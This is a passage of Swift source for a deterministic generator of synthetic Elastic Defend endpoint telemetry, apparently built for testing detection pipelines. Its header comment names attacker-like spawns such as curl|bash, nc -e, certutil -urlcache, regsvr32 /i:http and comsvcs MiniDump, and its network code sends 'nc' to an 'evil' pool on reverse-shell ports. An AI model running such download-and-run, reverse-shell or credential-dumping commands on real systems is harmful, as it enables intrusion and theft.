// Deterministic generator of synthetic Elastic Defend endpoint events (ECS), for `vigil gen`.
//
// Every event is one JSON object on one line, written straight into a byte buffer. All names,
// paths, command lines and JSON fragments are escaped once, at construction, into one byte
// arena; the hot path only copies arena chunks, digits and a few random IP octets.
//
// The model: each host runs a process table seeded by a boot sequence (systemd, sshd, nginx… on
// Linux; smss, services.exe, svchost.exe, explorer.exe… on Windows). Process starts create
// children of live processes of the same host (so `process.parent.*` always names a real,
// earlier process of that host), file/network/library/registry events are performed by live
// processes, and processes end. A small fraction of spawns are attacker-like
// (curl|bash, nc -e, certutil -urlcache, regsvr32 /i:http, comsvcs MiniDump, …).

struct EventGenerator: Sendable {
    private let cat: Catalog
    private var rng: Rng
    private var states: [HostState]
    private var current = 0
    private let startMillis: Int64
    private let meanStepNs: Int
    private var elapsedNs: Int64 = 0
    /// Number of events produced so far.
    private(set) var eventCount = 0
    /// Elastic Defend puts command line, args and parent only on process events; set this to also
    /// put them on file, network, library and registry events.
    var fullProcessOnAllEvents = false

    /// Most processes a host keeps alive at once.
    private static let tableCapacity = 48

    /// `benign`: no program marked suspicious (the download-and-run chains, the miner, the
    /// reconnaissance commands) is ever started, so the events hold no attack of their own.
    init(hosts: Int, seed: UInt64, startMillis: Int64, eventsPerSecond: Int = 1000, benign: Bool = false) {
        var r = Rng(seed: seed)
        let c = Catalog(hosts: max(1, hosts), rng: &r, benign: benign)
        cat = c
        states = (0..<c.hostInfo.count).map { h in
            HostState(procs: [], nextPid: 0, bootCursor: 0, last: -1, windows: c.hostInfo[h].windows)
        }
        rng = r
        self.startMillis = startMillis
        meanStepNs = 1_000_000_000 / max(1, eventsPerSecond)
        current = c.hostTable[0]
    }

    /// Appends one event as a single JSON object line (with trailing "\n") to `out`.
    mutating func next(into out: inout [UInt8]) {
        elapsedNs &+= Int64(rng.below(2 * meanStepNs + 1))
        let ms = startMillis &+ elapsedNs / 1_000_000
        eventCount += 1

        var h = current
        if states[h].bootCursor >= cat.hostInfo[h].bootCount, rng.below(100) >= 55 {
            h = cat.hostTable[rng.below(cat.hostTable.count)]
            current = h
        }
        if states[h].bootCursor < cat.hostInfo[h].bootCount {
            bootNext(h, ms, &out)
            return
        }
        let r = rng.below(1000)
        if states[h].windows {
            // process 11%, file 36%, network 24%, library 18%, registry 11%
            if r < 60 { startOrEnd(h, ms, start: true, &out) }
            else if r < 110 { startOrEnd(h, ms, start: false, &out) }
            else if r < 470 { fileEvent(h, actor(h, needNet: false), ms, &out) }
            else if r < 710 { networkEvent(h, ms, &out) }
            else if r < 890 { libraryEvent(h, actor(h, needNet: false), ms, &out) }
            else { registryEvent(h, actor(h, needNet: false), ms, &out) }
        } else {
            // process 12%, file 42%, network 30%, library 16%
            if r < 65 { startOrEnd(h, ms, start: true, &out) }
            else if r < 120 { startOrEnd(h, ms, start: false, &out) }
            else if r < 540 { fileEvent(h, actor(h, needNet: false), ms, &out) }
            else if r < 840 { networkEvent(h, ms, &out) }
            else { libraryEvent(h, actor(h, needNet: false), ms, &out) }
        }
    }
}

/// Writes `ms` (milliseconds since the Unix epoch) as ISO 8601 UTC with milliseconds,
/// e.g. `2026-11-23T10:00:00.123Z`.
func formatISO8601Millis(_ ms: Int64, into out: inout [UInt8]) {
    var secs = ms / 1000
    var milli = ms % 1000
    if milli < 0 { milli += 1000; secs -= 1 }
    var days = secs / 86_400
    var sod = secs % 86_400
    if sod < 0 { sod += 86_400; days -= 1 }
    // civil_from_days (H. Hinnant)
    let z = days + 719_468
    let era = (z >= 0 ? z : z - 146_096) / 146_097
    let doe = z - era * 146_097
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100)
    let mp = (5 * doy + 2) / 153
    let d = doy - (153 * mp + 2) / 5 + 1
    let m = mp < 10 ? mp + 3 : mp - 9
    var y = yoe + era * 400 + (m <= 2 ? 1 : 0)
    if y < 0 { out.append(45); y = -y }
    if y > 9999 {
        EventGenerator.W.uint(UInt64(y), &out)
    } else {
        out.append(48 &+ UInt8(y / 1000)); out.append(48 &+ UInt8(y / 100 % 10))
        out.append(48 &+ UInt8(y / 10 % 10)); out.append(48 &+ UInt8(y % 10))
    }
    out.append(45)
    EventGenerator.W.two(Int(m), &out)
    out.append(45)
    EventGenerator.W.two(Int(d), &out)
    out.append(84)
    EventGenerator.W.two(Int(sod / 3600), &out)
    out.append(58)
    EventGenerator.W.two(Int(sod / 60 % 60), &out)
    out.append(58)
    EventGenerator.W.two(Int(sod % 60), &out)
    out.append(46)
    out.append(48 &+ UInt8(milli / 100)); out.append(48 &+ UInt8(milli / 10 % 10)); out.append(48 &+ UInt8(milli % 10))
    out.append(90)
}

// MARK: - Event emission

extension EventGenerator {
    private mutating func bootNext(_ h: Int, _ ms: Int64, _ out: inout [UInt8]) {
        let info = cat.hostInfo[h]
        let k = Int(states[h].bootCursor)
        let prog = cat.bootProg[Int(info.bootStart) + k]
        let parentK = Int(cat.bootParent[Int(info.bootStart) + k])
        let windows = info.windows
        var pid: Int32
        if k == 0 {
            pid = windows ? Int32(4 * (70 + rng.below(60))) : 1
            states[h].nextPid = pid
        } else {
            pid = states[h].nextPid + Int32(windows ? 4 * (1 + rng.below(40)) : 1 + rng.below(60))
            states[h].nextPid = pid
        }
        let p = makeProc(h, prog: prog, pid: pid, parent: parentK >= 0 ? parentK : nil)
        states[h].procs.append(p)
        states[h].bootCursor += 1
        if Int(states[h].bootCursor) == Int(info.bootCount) {
            // The boot happened a while ago: runtime pids are well above the boot ones.
            states[h].nextPid = windows ? Int32(4 * (1000 + rng.below(4000))) : Int32(20_000 + rng.below(300_000))
        }
        writeProcessEvent(h, p, ms, start: true, &out)
    }

    private mutating func makeProc(_ h: Int, prog: Int32, pid: Int32, parent: Int?) -> Proc {
        let pr = cat.progs[Int(prog)]
        var user: Int32
        switch pr.userKind {
        case 2: user = pr.fixedUser
        case 1:
            let info = cat.hostInfo[h]
            user = cat.hostHumans[Int(info.humStart) + rng.below(Int(info.humCount))]
        default:
            if let parent {
                let pp = states[h].procs[parent]
                user = cat.progs[Int(pp.prog)].elevates ? cat.rootUser : pp.user
            } else {
                user = states[h].windows ? cat.systemUser : cat.rootUser
            }
        }
        let variant = pr.varStart + Int32(rng.below(Int(pr.varCount)))
        var p = Proc(pid: pid, prog: prog, variant: variant, user: user, ppid: 0, pprog: -1,
                     eidA: rng.next(), eidB: rng.next(), peidA: 0, peidB: 0)
        if let parent {
            let pp = states[h].procs[parent]
            p.ppid = pp.pid
            p.pprog = pp.prog
            p.peidA = pp.eidA
            p.peidB = pp.eidB
        }
        return p
    }

    private mutating func startOrEnd(_ h: Int, _ ms: Int64, start: Bool, _ out: inout [UInt8]) {
        let full = states[h].procs.count >= EventGenerator.tableCapacity
        if start && !full {
            startProcess(h, ms, &out)
        } else if let i = endable(h) {
            endProcess(h, i, ms, &out)
        } else if !full {
            startProcess(h, ms, &out)
        } else {
            fileEvent(h, actor(h, needNet: false), ms, &out)
        }
    }

    private mutating func startProcess(_ h: Int, _ ms: Int64, _ out: inout [UInt8]) {
        let n = states[h].procs.count
        var parent = -1
        var fallback = -1
        let last = Int(states[h].last)
        if last >= 0, rng.below(100) < 40 {
            let pr = cat.progs[Int(states[h].procs[last].prog)]
            if pr.kidCount > 0 { fallback = last; if rng.below(100) < Int(pr.rate) { parent = last } }
        }
        var tries = 0
        while parent < 0 && tries < 32 {
            tries += 1
            let i = rng.below(n)
            let pr = cat.progs[Int(states[h].procs[i].prog)]
            guard pr.kidCount > 0 else { continue }
            if fallback < 0 { fallback = i }
            if rng.below(100) < Int(pr.rate) { parent = i }
        }
        // Fallback: any spawner seen, else services.exe (boot slot 2) / systemd (slot 0), which never end.
        if parent < 0 { parent = fallback >= 0 ? fallback : (states[h].windows ? 2 : 0) }
        let pp = cat.progs[Int(states[h].procs[parent].prog)]
        var child: Int32
        if pp.kidCount > 0 {
            let start = Int(pp.kidStart), end = start + Int(pp.kidCount)
            let total = Int(cat.kidCum[end - 1])
            let r = Int32(rng.below(total))
            var j = start
            while j < end - 1 && cat.kidCum[j] <= r { j += 1 }
            child = cat.kidProg[j]
        } else {
            child = cat.progs[Int(states[h].procs[parent].prog)].os == 1 ? cat.fallbackChildWin : cat.fallbackChildLinux
        }
        let pid = allocPid(h)
        let p = makeProc(h, prog: child, pid: pid, parent: parent)
        states[h].procs.append(p)
        states[h].last = Int32(states[h].procs.count - 1)
        writeProcessEvent(h, p, ms, start: true, &out)
    }

    private mutating func allocPid(_ h: Int) -> Int32 {
        let windows = states[h].windows
        while true {
            var pid = states[h].nextPid + Int32(windows ? 4 * (1 + rng.below(48)) : 1 + rng.below(40))
            if windows { if pid > 65_532 { pid = 1004 } } else if pid > 4_194_300 { pid = 1200 }
            states[h].nextPid = pid
            var clash = false
            for q in states[h].procs where q.pid == pid { clash = true; break }
            if !clash { return pid }
        }
    }

    private mutating func endable(_ h: Int) -> Int? {
        let last = Int(states[h].last)
        if last >= 0, rng.below(100) < 35, cat.progs[Int(states[h].procs[last].prog)].life == .short { return last }
        let n = states[h].procs.count
        for _ in 0..<10 {
            let i = rng.below(n)
            switch cat.progs[Int(states[h].procs[i].prog)].life {
            case .persistent: continue
            case .long: if rng.below(100) < 12 { return i }
            case .short: return i
            }
        }
        return nil
    }

    private mutating func endProcess(_ h: Int, _ i: Int, _ ms: Int64, _ out: inout [UInt8]) {
        let p = states[h].procs[i]
        writeProcessEvent(h, p, ms, start: false, &out)
        let lastIndex = states[h].procs.count - 1
        states[h].procs.swapAt(i, lastIndex)
        states[h].procs.removeLast()
        let last = Int(states[h].last)
        if last == i { states[h].last = -1 } else if last == lastIndex { states[h].last = Int32(i) }
    }

    /// A live process to perform a file/network/library/registry event, or -1.
    private mutating func actor(_ h: Int, needNet: Bool) -> Int {
        let n = states[h].procs.count
        let last = Int(states[h].last)
        if last >= 0, rng.below(100) < 35 {
            if !needNet || cat.progs[Int(states[h].procs[last].prog)].net != .none { return last }
        }
        for _ in 0..<8 {
            let i = rng.below(n)
            if !needNet || cat.progs[Int(states[h].procs[i].prog)].net != .none { return i }
        }
        return needNet ? -1 : rng.below(n)
    }

    // MARK: Writers

    @inline(__always)
    private func put(_ c: Chunk, _ out: inout [UInt8]) {
        out.append(contentsOf: UnsafeBufferPointer(start: cat.base + Int(c.off), count: Int(c.len)))
    }

    @inline(__always)
    private func lit(_ s: StaticString, _ out: inout [UInt8]) {
        out.append(contentsOf: UnsafeBufferPointer(start: s.utf8Start, count: s.utf8CodeUnitCount))
    }

    /// `{"@timestamp":"…","event":{…},"host":{…},"user":{…}`
    private func head(_ h: Int, _ hdr: Hdr, _ user: Int32, _ ms: Int64, _ out: inout [UInt8]) {
        lit("{\"@timestamp\":\"", &out)
        formatISO8601Millis(ms, into: &out)
        lit("\",", &out)
        put(cat.headers[Int(hdr.rawValue)], &out)
        put(cat.hostInfo[h].chunk, &out)
        put(cat.users[Int(user)].chunk, &out)
    }

    /// `,"process":{…}` (left open when `open`).
    private func process(_ p: Proc, full: Bool, _ out: inout [UInt8]) {
        lit(",\"process\":{\"pid\":", &out)
        W.uint(UInt64(p.pid), &out)
        lit(",\"entity_id\":\"", &out)
        W.entityID(p.eidA, p.eidB, &out)
        lit("\",", &out)
        let pr = cat.progs[Int(p.prog)]
        put(pr.nameExe, &out)
        if full {
            put(cat.variants[Int(p.variant)], &out)
            if p.pprog >= 0 {
                lit(",\"parent\":{\"pid\":", &out)
                W.uint(UInt64(p.ppid), &out)
                lit(",\"entity_id\":\"", &out)
                W.entityID(p.peidA, p.peidB, &out)
                lit("\",\"name\":\"", &out)
                put(cat.progs[Int(p.pprog)].name, &out)
                lit("\"}", &out)
            }
        }
    }

    private mutating func writeProcessEvent(_ h: Int, _ p: Proc, _ ms: Int64, start: Bool, _ out: inout [UInt8]) {
        let windows = states[h].windows
        let hdr: Hdr = start ? (windows ? .procStart : .procExec) : .procEnd
        head(h, hdr, p.user, ms, &out)
        process(p, full: true, &out)
        if !start {
            lit(",\"exit_code\":", &out)
            let r = rng.below(100)
            W.uint(r < 90 ? 0 : (r < 97 ? 1 : (windows ? 259 : 130)), &out)
        }
        lit("}}\n", &out)
    }

    private mutating func fileEvent(_ h: Int, _ i: Int, _ ms: Int64, _ out: inout [UInt8]) {
        let p = states[h].procs[i]
        let pr = cat.progs[Int(p.prog)]
        let dir = cat.dirs[Int(cat.progFiles[Int(pr.fileStart) + rng.below(Int(pr.fileCount))])]
        let name = cat.names[Int(dir.nameStart) + rng.below(Int(dir.nameCount))]
        let r = rng.below(100)
        let hdr: Hdr = r < 35 ? .fileCreate : (r < 80 ? .fileModify : (r < 95 ? .fileDelete : .fileRename))
        head(h, hdr, p.user, ms, &out)
        process(p, full: fullProcessOnAllEvents, &out)
        let value = rng.next()
        lit("},\"file\":{\"path\":\"", &out)
        if dir.home { put(cat.users[Int(p.user)].home, &out) }
        put(dir.rest, &out)
        writeName(name, value, &out)
        lit("\",\"name\":\"", &out)
        writeName(name, value, &out)
        if name.ext.len > 0 {
            lit("\",\"extension\":\"", &out)
            put(name.ext, &out)
        }
        lit("\"}}\n", &out)
    }

    private func writeName(_ n: FileName, _ value: UInt64, _ out: inout [UInt8]) {
        put(n.pre, &out)
        switch n.placeholder {
        case 1: W.uint(1000 + value % 9_999_000, &out)
        case 2: W.hex8(UInt32(truncatingIfNeeded: value), upper: false, &out)
        case 3: W.hex8(UInt32(truncatingIfNeeded: value), upper: true, &out)
        default: break
        }
        if n.placeholder != 0 { put(n.post, &out) }
    }

    private mutating func libraryEvent(_ h: Int, _ i: Int, _ ms: Int64, _ out: inout [UInt8]) {
        let p = states[h].procs[i]
        let pr = cat.progs[Int(p.prog)]
        let dll: Int32
        if pr.libCount > 0, rng.below(100) < 40 {
            dll = cat.progLibs[Int(pr.libStart) + rng.below(Int(pr.libCount))]
        } else {
            let g = states[h].windows ? cat.genericLibsWin : cat.genericLibsLinux
            dll = g.start + Int32(rng.below(Int(g.count)))
        }
        head(h, .libLoad, p.user, ms, &out)
        process(p, full: fullProcessOnAllEvents, &out)
        lit("}", &out)
        put(cat.dlls[Int(dll)], &out)
        lit("}\n", &out)
    }

    private mutating func registryEvent(_ h: Int, _ i: Int, _ ms: Int64, _ out: inout [UInt8]) {
        let p = states[h].procs[i]
        let pr = cat.progs[Int(p.prog)]
        let g: Range32
        if pr.sus && rng.below(100) < 70 { g = cat.regEvil }
        else if rng.below(100) < 4 { g = cat.regRun }
        else { g = cat.users[Int(p.user)].human ? cat.regUser : cat.regMachine }
        let reg = g.start + Int32(rng.below(Int(g.count)))
        head(h, .regModify, p.user, ms, &out)
        process(p, full: fullProcessOnAllEvents, &out)
        lit("}", &out)
        put(cat.regs[Int(reg)], &out)
        lit("}\n", &out)
    }

    private mutating func networkEvent(_ h: Int, _ ms: Int64, _ out: inout [UInt8]) {
        let i = actor(h, needNet: true)
        if i < 0 { fileEvent(h, actor(h, needNet: false), ms, &out); return }
        let p = states[h].procs[i]
        let pr = cat.progs[Int(p.prog)]
        let windows = states[h].windows
        var egress = true
        var udp = false
        var port = 443
        var pool = Pool.publicWeb
        switch pr.net {
        case .none, .web:
            if rng.below(100) < 18 { pool = .publicV6 }
            port = rng.below(100) < 88 ? 443 : 80
        case .github: pool = .github
        case .dns: udp = true; port = 53; pool = .resolvers
        case .dnsServer: egress = false; udp = true; port = 53; pool = rng.below(2) == 0 ? .internalWs : .internalSrv
        case .sshd: egress = false; port = 22; pool = rng.below(100) < 90 ? .internalWs : .scanners
        case .sshc: port = 22; pool = rng.below(100) < 70 ? .internalSrv : .github
        case .https:
            egress = false
            port = rng.below(100) < 90 ? 443 : 80
            pool = rng.below(100) < 20 ? .publicV6 : .publicWeb
        case .httpInt: egress = false; port = 8080; pool = .internalSrv
        case .pg: egress = false; port = 5432; pool = .internalSrv
        case .pgc: port = 5432; pool = .dbServers
        case .metrics: egress = false; port = 9100; pool = .internalSrv
        case .agent: pool = .elastic; port = rng.below(100) < 80 ? 443 : 8220
        case .smbc: pool = .fileServers; port = rng.below(100) < 80 ? 445 : 135
        case .dcs:
            egress = false; pool = .internalWs
            let ports = (88, 389, 445, 135, 636)
            switch rng.below(5) { case 0: port = ports.0; case 1: port = ports.1; case 2: port = ports.2; case 3: port = ports.3; default: port = ports.4 }
        case .dcc:
            pool = .dcs
            switch rng.below(4) { case 0: port = 88; case 1: port = 389; case 2: port = 445; default: port = 135 }
        case .nc:
            pool = .evil
            switch rng.below(3) { case 0: port = 4444; case 1: port = 9001; default: port = 1337 }
        case .k8s:
            pool = .k8sApi
            switch rng.below(3) { case 0: port = 6443; case 1: port = 10250; default: port = 2379 }
        case .ntp: udp = true; port = 123; pool = .ntp
        case .rdp: port = 3389; pool = .internalSrv
        case .ms: pool = rng.below(100) < 15 ? .publicV6 : .microsoft
        case .evilweb:
            pool = .evil
            switch rng.below(3) { case 0: port = 80; case 1: port = 443; default: port = 8080 }
        case .mssql: egress = false; port = 1433; pool = rng.below(2) == 0 ? .internalWs : .internalSrv
        case .pool: pool = .miningPool; port = rng.below(2) == 0 ? 3333 : 443
        }
        let g = cat.poolGroups[Int(pool.rawValue)]
        let ip = cat.ipPools[Int(g.start) + rng.below(Int(g.count))]
        let ephemeral = windows ? 49_152 + rng.below(16_384) : 32_768 + rng.below(28_232)
        let remoteEphemeral = 32_768 + rng.below(32_000)
        let hdr: Hdr = rng.below(100) < 30 ? .netDisconnect : (egress ? .netConnect : .netAccept)
        head(h, hdr, p.user, ms, &out)
        process(p, full: fullProcessOnAllEvents, &out)
        let local = ip.v6 ? cat.hostInfo[h].ip6 : cat.hostInfo[h].ip4
        lit("},\"source\":{\"ip\":\"", &out)
        if egress { put(local, &out) } else { writeIP(ip, &out) }
        lit("\",\"port\":", &out)
        W.uint(UInt64(egress ? ephemeral : remoteEphemeral), &out)
        lit("},\"destination\":{\"ip\":\"", &out)
        if egress { writeIP(ip, &out) } else { put(local, &out) }
        lit("\",\"port\":", &out)
        W.uint(UInt64(port), &out)
        lit("},\"network\":{\"transport\":\"", &out)
        if udp { lit("udp", &out) } else { lit("tcp", &out) }
        lit("\",\"direction\":\"", &out)
        if egress { lit("egress", &out) } else { lit("ingress", &out) }
        lit("\",\"type\":\"", &out)
        if ip.v6 { lit("ipv6", &out) } else { lit("ipv4", &out) }
        lit("\"}}\n", &out)
    }

    private mutating func writeIP(_ ip: IPPool, _ out: inout [UInt8]) {
        put(ip.prefix, &out)
        switch ip.tail {
        case 1:
            W.uint(UInt64(1 + rng.below(254)), &out)
        case 2:
            W.uint(UInt64(rng.below(256)), &out)
            out.append(46)
            W.uint(UInt64(1 + rng.below(254)), &out)
        case 6:
            W.hexGroup(UInt16(0x1000 + rng.below(0xF000)), &out)
        default: break
        }
    }
}

// MARK: - Low-level byte writers

extension EventGenerator {
    enum W {
        @inline(__always)
        static func two(_ v: Int, _ out: inout [UInt8]) {
            out.append(48 &+ UInt8(truncatingIfNeeded: v / 10))
            out.append(48 &+ UInt8(truncatingIfNeeded: v % 10))
        }

        static func uint(_ v: UInt64, _ out: inout [UInt8]) {
            if v < 10 { out.append(48 &+ UInt8(v)); return }
            var p: UInt64 = 10
            var digits = 1
            while digits < 19 && v >= p { digits += 1; p &*= 10 }
            if v >= p { p = 10_000_000_000_000_000_000 } else { p /= 10 }  // 20-digit values
            var x = v
            while p > 0 {
                let q = x / p
                out.append(48 &+ UInt8(truncatingIfNeeded: q))
                x -= q &* p
                p /= 10
            }
        }

        static func hex8(_ v: UInt32, upper: Bool, _ out: inout [UInt8]) {
            let a: UInt8 = upper ? 55 : 87
            var s: UInt32 = 28
            for _ in 0..<8 {
                let d = UInt8(truncatingIfNeeded: (v >> s) & 15)
                out.append(d < 10 ? 48 &+ d : a &+ d)
                s &-= 4
            }
        }

        static func hexGroup(_ v: UInt16, _ out: inout [UInt8]) {
            var started = false
            var s: UInt16 = 12
            for _ in 0..<4 {
                let d = UInt8(truncatingIfNeeded: (v >> s) & 15)
                if d != 0 || started || s == 0 {
                    started = true
                    out.append(d < 10 ? 48 &+ d : 87 &+ d)
                }
                s &-= 4
            }
        }

        /// 22 base64 characters from 128 bits (Elastic entity ids are base64 too, just longer).
        static func entityID(_ a: UInt64, _ b: UInt64, _ out: inout [UInt8]) {
            let alphabet: StaticString = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
            let t = alphabet.utf8Start
            var x = a
            for _ in 0..<11 { out.append(t[Int(x & 63)]); x >>= 6 }
            x = b
            for _ in 0..<11 { out.append(t[Int(x & 63)]); x >>= 6 }
        }
    }

    /// xoshiro256** seeded with splitmix64.
    struct Rng: Sendable {
        private var s0, s1, s2, s3: UInt64

        init(seed: UInt64) {
            var z = seed
            func split(_ z: inout UInt64) -> UInt64 {
                z &+= 0x9E37_79B9_7F4A_7C15
                var x = z
                x = (x ^ (x >> 30)) &* 0xBF58_476D_1CE4_E5B9
                x = (x ^ (x >> 27)) &* 0x94D0_49BB_1331_11EB
                return x ^ (x >> 31)
            }
            s0 = split(&z); s1 = split(&z); s2 = split(&z); s3 = split(&z)
        }

        @inline(__always)
        mutating func next() -> UInt64 {
            let result = ((s1 &* 5) << 7 | (s1 &* 5) >> 57) &* 9
            let t = s1 << 17
            s2 ^= s0; s3 ^= s1; s1 ^= s2; s0 ^= s3
            s2 ^= t
            s3 = (s3 << 45) | (s3 >> 19)
            return result
        }

        /// Uniform-enough integer in 0..<n (n < 2^32; multiply-shift, no rejection).
        @inline(__always)
        mutating func below(_ n: Int) -> Int {
            Int(truncatingIfNeeded: ((next() >> 32) &* UInt64(truncatingIfNeeded: n)) >> 32)
        }
    }
}

// MARK: - Runtime tables

extension EventGenerator {
    struct Chunk: Sendable { var off: UInt32 = 0; var len: UInt32 = 0 }
    struct Range32: Sendable { var start: Int32 = 0; var count: Int32 = 0 }

    enum Life: UInt8, Sendable { case persistent, long, short }

    enum Net: UInt8, Sendable {
        case none, web, github, dns, dnsServer, sshd, sshc, https, httpInt, pg, pgc, metrics, agent
        case smbc, dcs, dcc, nc, k8s, ntp, rdp, ms, evilweb, mssql, pool
    }

    enum Pool: UInt8, CaseIterable, Sendable {
        case publicWeb, publicV6, github, microsoft, elastic, evil, internalSrv, internalWs, dcs
        case resolvers, ntp, k8sApi, dbServers, fileServers, miningPool, scanners
    }

    enum Hdr: UInt8, CaseIterable, Sendable {
        case procExec, procStart, procEnd, fileCreate, fileModify, fileDelete, fileRename
        case netConnect, netAccept, netDisconnect, libLoad, regModify
    }

    struct Proc: Sendable {
        var pid: Int32
        var prog: Int32
        var variant: Int32
        var user: Int32
        var ppid: Int32
        var pprog: Int32
        var eidA: UInt64
        var eidB: UInt64
        var peidA: UInt64
        var peidB: UInt64
    }

    struct HostState: Sendable {
        var procs: [Proc]
        var nextPid: Int32
        var bootCursor: Int32
        var last: Int32
        var windows: Bool
    }

    struct Prog: Sendable {
        var os: UInt8 = 0  // 0 linux, 1 windows
        var life: Life = .short
        var userKind: UInt8 = 0  // 0 inherit, 1 session user, 2 fixed
        var fixedUser: Int32 = 0
        var elevates = false
        var sus = false
        var rate: Int32 = 100
        var net: Net = .none
        /// `"name":"…","executable":"…"`
        var nameExe = Chunk()
        /// the escaped name alone
        var name = Chunk()
        var varStart: Int32 = 0, varCount: Int32 = 0
        var kidStart: Int32 = 0, kidCount: Int32 = 0
        var fileStart: Int32 = 0, fileCount: Int32 = 0
        var libStart: Int32 = 0, libCount: Int32 = 0
    }

    struct FileDir: Sendable {
        var home: Bool
        /// escaped directory (after the home prefix) including the trailing separator
        var rest: Chunk
        var nameStart: Int32
        var nameCount: Int32
    }

    struct FileName: Sendable {
        var pre: Chunk
        var placeholder: UInt8  // 0 none, 1 decimal, 2 hex, 3 HEX
        var post: Chunk
        var ext: Chunk
    }

    struct UserRec: Sendable {
        /// `,"user":{"name":"…"[,"domain":"…"]}`
        var chunk: Chunk
        /// escaped home directory, without trailing separator
        var home: Chunk
        /// an interactive (person) account rather than a service account
        var human: Bool
    }

    struct HostInfo: Sendable {
        /// `,"host":{…}`
        var chunk: Chunk
        var windows: Bool
        var ip4: Chunk
        var ip6: Chunk
        var humStart: Int32
        var humCount: Int32
        var bootStart: Int32
        var bootCount: Int32
    }

    struct IPPool: Sendable {
        var prefix: Chunk
        var tail: UInt8  // 0 fixed, 1 one octet, 2 two octets, 6 one IPv6 group
        var v6: Bool
    }

    /// Immutable after construction; owns the byte arena.
    final class Catalog: @unchecked Sendable {
        let base: UnsafeMutablePointer<UInt8>
        let progs: [Prog]
        let variants: [Chunk]
        let kidProg: [Int32]
        let kidCum: [Int32]
        let progFiles: [Int32]
        let dirs: [FileDir]
        let names: [FileName]
        let progLibs: [Int32]
        let dlls: [Chunk]
        let genericLibsLinux: Range32
        let genericLibsWin: Range32
        let regs: [Chunk]
        let regMachine: Range32
        let regUser: Range32
        let regRun: Range32
        let regEvil: Range32
        let users: [UserRec]
        let rootUser: Int32
        let systemUser: Int32
        let hostInfo: [HostInfo]
        let hostHumans: [Int32]
        let hostTable: [Int]
        let bootProg: [Int32]
        let bootParent: [Int32]
        let ipPools: [IPPool]
        let poolGroups: [Range32]
        let headers: [Chunk]
        let fallbackChildLinux: Int32
        let fallbackChildWin: Int32

        init(hosts: Int, rng: inout Rng, benign: Bool) {
            var b = Builder()
            b.build(hosts: hosts, rng: &rng, benign: benign)
            let p = UnsafeMutablePointer<UInt8>.allocate(capacity: max(1, b.bytes.count))
            b.bytes.withUnsafeBufferPointer { src in
                if let s = src.baseAddress { p.initialize(from: s, count: src.count) }
            }
            base = p
            progs = b.progs; variants = b.variants; kidProg = b.kidProg; kidCum = b.kidCum
            progFiles = b.progFiles; dirs = b.dirs; names = b.names; progLibs = b.progLibs; dlls = b.dlls
            genericLibsLinux = b.genericLibsLinux; genericLibsWin = b.genericLibsWin
            regs = b.regs; regMachine = b.regMachine; regUser = b.regUser; regRun = b.regRun; regEvil = b.regEvil
            users = b.users; rootUser = b.rootUser; systemUser = b.systemUser
            hostInfo = b.hostInfo; hostHumans = b.hostHumans; hostTable = b.hostTable
            bootProg = b.bootProg; bootParent = b.bootParent
            ipPools = b.ipPools; poolGroups = b.poolGroups; headers = b.headers
            fallbackChildLinux = b.fallbackChildLinux; fallbackChildWin = b.fallbackChildWin
        }

        deinit { base.deallocate() }
    }
}

// MARK: - Catalog construction

extension EventGenerator {
    struct Builder {
        var bytes: [UInt8] = []
        var progs: [Prog] = []
        var variants: [Chunk] = []
        var kidProg: [Int32] = []
        var kidCum: [Int32] = []
        var progFiles: [Int32] = []
        var dirs: [FileDir] = []
        var names: [FileName] = []
        var progLibs: [Int32] = []
        var dlls: [Chunk] = []
        var genericLibsLinux = Range32()
        var genericLibsWin = Range32()
        var regs: [Chunk] = []
        var regMachine = Range32(), regUser = Range32(), regRun = Range32(), regEvil = Range32()
        var users: [UserRec] = []
        var userIndex: [String: Int32] = [:]
        var rootUser: Int32 = 0
        var systemUser: Int32 = 0
        var hostInfo: [HostInfo] = []
        var hostHumans: [Int32] = []
        var hostTable: [Int] = []
        var bootProg: [Int32] = []
        var bootParent: [Int32] = []
        var ipPools: [IPPool] = []
        var poolGroups: [Range32] = []
        var headers: [Chunk] = []
        var fallbackChildLinux: Int32 = 0
        var fallbackChildWin: Int32 = 0

        // MARK: bytes

        static func esc(_ s: String) -> [UInt8] {
            var o: [UInt8] = []
            o.reserveCapacity(s.utf8.count + 8)
            let hex: [UInt8] = Array("0123456789abcdef".utf8)
            for c in s.utf8 {
                switch c {
                case 0x22: o.append(0x5C); o.append(0x22)
                case 0x5C: o.append(0x5C); o.append(0x5C)
                case 0x0A: o.append(0x5C); o.append(0x6E)
                case 0x0D: o.append(0x5C); o.append(0x72)
                case 0x09: o.append(0x5C); o.append(0x74)
                case 0..<0x20:
                    o.append(contentsOf: Array("\\u00".utf8))
                    o.append(hex[Int(c >> 4)]); o.append(hex[Int(c & 15)])
                default: o.append(c)
                }
            }
            return o
        }

        static func q(_ s: String) -> [UInt8] { [0x22] + esc(s) + [0x22] }

        mutating func add(_ b: [UInt8]) -> Chunk {
            let c = Chunk(off: UInt32(bytes.count), len: UInt32(b.count))
            bytes.append(contentsOf: b)
            return c
        }

        mutating func add(raw s: String) -> Chunk { add(Array(s.utf8)) }
        mutating func add(esc s: String) -> Chunk { add(Builder.esc(s)) }

        // MARK: tokenizing

        /// Splits on spaces; quotes group and are removed (`'` only when `single`).
        static func tokenize(_ s: String, single: Bool) -> [String] {
            var out: [String] = []
            var cur = ""
            var inTok = false
            var quote: Character? = nil
            for ch in s {
                if let qc = quote {
                    if ch == qc { quote = nil } else { cur.append(ch) }
                } else if ch == "\"" || (single && ch == "'") {
                    quote = ch; inTok = true
                } else if ch == " " {
                    if inTok { out.append(cur); cur = ""; inTok = false }
                } else {
                    cur.append(ch); inTok = true
                }
            }
            if inTok { out.append(cur) }
            return out
        }

        static func lastComponent(_ path: String) -> String {
            var s = Substring(path)
            if let i = s.lastIndex(where: { $0 == "/" || $0 == "\\" }) { s = s[s.index(after: i)...] }
            return String(s)
        }

        // MARK: build

        mutating func build(hosts: Int, rng: inout Rng, benign: Bool) {
            buildHeaders()
            buildUsers()
            buildPools()
            let linuxFiles = Specs.linuxFiles()
            let windowsFiles = Specs.windowsFiles()
            var groupDirs: [String: [Int32]] = [:]
            for (name, list) in linuxFiles { groupDirs["L:" + name] = list.map { addDir($0.0, $0.1, windows: false) } }
            for (name, list) in windowsFiles { groupDirs["W:" + name] = list.map { addDir($0.0, $0.1, windows: true) } }

            let (lLibs, lGeneric) = Specs.linuxLibs()
            let (wLibs, wGeneric) = Specs.windowsLibs()
